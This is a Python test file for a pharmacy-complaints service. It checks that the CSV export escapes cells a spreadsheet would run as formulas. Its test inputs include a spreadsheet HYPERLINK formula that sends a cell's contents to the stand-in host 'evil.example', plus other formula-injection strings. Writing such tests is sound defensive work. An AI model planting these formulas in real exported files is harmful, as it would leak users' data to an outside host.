"""The complaints CSV cannot run formulas: a text cell a spreadsheet would read as one is neutralised."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from complaints.draft import ComplaintDraft, PhotoRef, ProductFacts
from complaints.export import ExportFilter, export_csv
from complaints.images import clean_image
from complaints.service import PhotoIn, create_complaint
from core.users import touch_user
from tests.test_complaints_bot import jpeg

CITIZEN = 700101
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Dorixona")', "+SUM(1+1)", "-2+3", "@SUM(A1)",
            "\tDorixona", "\rDorixona"]


async def _complaint(db, pharmacy: str, product: str = "Paracetamol-UZ") -> None:
    draft = ComplaintDraft(kind="overprice", price_paid=Decimal("45000"), pharmacy=pharmacy,
                  receipt=PhotoRef("file-id", "unique-id"),
                  product=ProductFacts(product, gtin="04780181590830", batch="-V31583",
                                       max_price=Decimal("27000"), currency="UZS"))
    await create_complaint(db, CITIZEN, draft, [PhotoIn("receipt", "file-id", "unique-id", clean_image(jpeg()))])


async def _rows(db) -> list[dict]:
    data, _count = await export_csv(db, ExportFilter())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_cells_a_spreadsheet_would_run_are_neutralised(db):
    await touch_user(db, CITIZEN, "en", "en", frozenset())
    for text in FORMULAS:
        await _complaint(db, text, product=text)
    rows = await _rows(db)
    # What a citizen types is stored without control characters, so a typed "\r" never reaches the file.
    assert [r["pharmacy"] for r in rows] == ["'" + text for text in FORMULAS[:-1]] + ["Dorixona"]
    assert [r["product"] for r in rows] == ["'" + text for text in FORMULAS]
    assert {r["batch"] for r in rows} == {"'-V31583"}
    # Numbers are ours, not typed text: they stay numbers.
    assert {(r["price_paid"], r["excess"], r["gtin"]) for r in rows} == {("45000.00", "18000.00", "04780181590830")}


@pytest.mark.parametrize("text", ["Dorixona 36, Chilonzor 5", "'quoted' pharmacy", "Аптека = лучшая"])
async def test_ordinary_text_is_written_as_typed(db, text):
    await touch_user(db, CITIZEN, "en", "en", frozenset())
    await _complaint(db, text)
    [row] = await _rows(db)
    assert row["pharmacy"] == text
